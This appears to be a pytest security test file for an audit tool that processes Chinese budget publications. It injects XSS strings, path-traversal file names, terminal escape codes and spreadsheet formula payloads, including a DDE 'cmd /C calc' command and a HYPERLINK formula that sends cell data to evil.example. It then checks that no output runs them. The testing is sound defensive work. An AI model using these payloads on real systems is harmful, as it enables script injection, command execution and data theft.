"""One publication that tries everything at once, audited end to end: in no file that is written does any of it act."""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from audit.cli import main
from tests.support import ROOT

SAMPLE = ROOT / "corpora" / "samples" / "wuhan-2020_faulty_numbers.txt"
UNIT = "云岭市东篱区市场监督管理局"
MARKUP = "'\"><svg/onload=alert`1`//"
"""Without blanks and without its end: a browser takes it for an element all the same, no cleaning takes it out."""
WHOLE = "<img src=x onerror=alert(1)>"
BAD_UNIT = f"..\\..{MARKUP}..{UNIT}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点")'
COMMAND = "=cmd|' /C calc'!A0"
BREAKOUT = "</script></style></title></textarea><script>alert(2)</script>"
FILE_NAME = "=1+1 %2e%2e%2f<svg onload=alert(3)>#?&'\"..\\..\\x.txt"
SWAPS = (
    # the figure of a finding, so that the words are quoted, and its message and its table name them
    ("决算数为3.43万元", f"决算数为3.43万元{BREAKOUT}{MARKUP}"),
    ("公务员医疗补助（项）", f"公务员医疗补助（项）{MARKUP}"),
    ("工资福利支出", f"工资福利支出{MARKUP}"),
    ("基本工资", COMMAND),
    ("津贴补贴", FORMULA),
    ("特种设备检查", f"+特种{MARKUP}设备检查"),
    ("名词解释", f"名词解释{BREAKOUT}javascript:alert(4)"),
)


class Elements(HTMLParser):
    """Collects the elements of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    """The output folder of two such publications, and the folder that holds it."""
    base = tmp_path_factory.mktemp("base")
    (base / "in").mkdir()
    text = SAMPLE.read_text(encoding="utf-8").replace(UNIT, BAD_UNIT)
    for before, after in SWAPS:
        assert before in text
        text = text.replace(before, after)
    (base / "in" / FILE_NAME).write_text(text, encoding="utf-8")
    (base / "in" / f"-{WHOLE}.bin.pdf").write_bytes(b"")
    out = base / "a" / "b" / "out"
    assert main(["audit", str(base / "in"), "-o", str(out), "-q", "--jobs", "1"]) == 3
    assert main(["notice", str(out)]) == 0
    shutil.copytree(out, base / "a" / "b" / "old")
    assert main(["diff", str(base / "a" / "b" / "old"), str(out)]) == 0
    return out


def pages(out):
    return sorted(out.rglob("*.html"))


def test_nothing_is_written_outside_and_no_name_says_where(out):
    base = out.parents[2]
    assert {path.name for path in base.iterdir()} == {"in", "a"}
    assert {path.name for path in (base / "a" / "b").iterdir()} == {"out", "old"}
    assert {path.name for path in (base / "in").iterdir()} == {FILE_NAME, f"-{WHOLE}.bin.pdf"}
    names = [path.name for path in out.rglob("*")]
    assert not [name for name in names if re.search(r"[<>\"'\\?*|:=#%&]|^\.(?!gouji)", name)]
    assert len(list((out / "notices").iterdir())) == 1


def test_the_words_were_really_taken_in(out):
    report = next(out.glob("*/report.json")).read_text(encoding="utf-8")
    data = json.loads(report)
    assert any("<svg/onload" in finding["message"] for finding in data["findings"])
    assert any("HYPERLINK" in finding["message"] for finding in data["findings"])
    assert "<svg/onload" in data["document"]["entity"]
    assert "calc" in report
    assert data["checklist"]


def test_no_page_has_an_element_that_a_document_brought(out):
    assert len(pages(out)) == 3
    for path in pages(out):
        parser = Elements()
        html = path.read_text(encoding="utf-8")
        parser.feed(html)
        scripts = [attrs for tag, attrs in parser.found if tag == "script"]
        assert len(scripts) == {"report.html": 1, "index.html": 2, "diff.html": 0}[path.name]
        for tag, attrs in parser.found:
            assert tag not in {"img", "iframe", "object", "embed", "base", "textarea"} or attrs.get("alt"), path.name
            assert not [name for name in attrs if name.startswith("on") or name == "style"], path.name
            assert re.match(r"(#|\./)", attrs.get("href", "#")), attrs
        assert "default-src 'none'" in html


def test_no_browser_runs_any_of_it(out, open_page):
    for path in pages(out):
        page = open_page(None, path=path)
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
        page.wait_for_timeout(100)
        assert page.locator("img[src=x], svg[onload]").count() == 0


def test_the_links_of_the_index_lead_to_the_report_all_the_same(out, open_page):
    page = open_page(None, path=out / "index.html")
    assert FILE_NAME in page.inner_text("[data-rows]")
    page.locator("[data-rows] button.open").first.click()
    page.locator(".more a").first.click()
    page.wait_for_url("**/report.html#*")
    assert "<svg/onload=alert`1`//" in page.inner_text("body")


def test_no_workbook_has_a_formula_or_a_link_that_leads_out(out):
    books = sorted(out.rglob("*.xlsx"))
    assert [path.name for path in books] == ["checklist.xlsx", "working-papers.xlsx"]
    for path in books:
        book = load_workbook(path)
        cells = [cell for page in book.worksheets for row in page.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        starts = [cell for cell in cells if isinstance(cell.value, str) and re.match(r"\s*[=+@-]", cell.value)]
        assert all(cell.quotePrefix for cell in starts)
        links = [cell.hyperlink.target for cell in cells if cell.hyperlink]
        assert not [link for link in links if re.match(r"[a-z]+:|/|\\|\.\.", link)]
        with zipfile.ZipFile(path) as package:
            assert not [name for name in package.namelist() if "externalLink" in name or "vba" in name]


def test_no_cell_of_the_table_is_a_formula(out):
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == 3
    assert not [cell for row in rows[1:] for cell in row if re.match(r"\s*[=+@\t\r]|\s*-\D", cell)]
    assert any(WHOLE in cell for row in rows for cell in row)


def test_the_notice_has_no_field_and_no_link(out):
    (path,) = (out / "notices").iterdir()
    with zipfile.ZipFile(path) as package:
        body = package.read("word/document.xml").decode("utf-8")
        relations = package.read("word/_rels/document.xml.rels").decode("utf-8")
        assert not [name for name in package.namelist() if "vba" in name or "embeddings" in name]
    assert "&lt;svg/onload=alert`1`//" in body
    assert not re.search(r"<w:(instrText|fldSimple|hyperlink|object|altChunk)\b", body)
    assert 'TargetMode="External"' not in relations


def test_the_terminal_obeys_nothing(tmp_path, capsys):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "\x1b]0;owned\x07\u202e.txt").write_text("\x00\x01", encoding="utf-8")
    main(["audit", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    said = capsys.readouterr()
    assert not re.search(r"[\x07\x1b\u202e]", said.out + said.err)
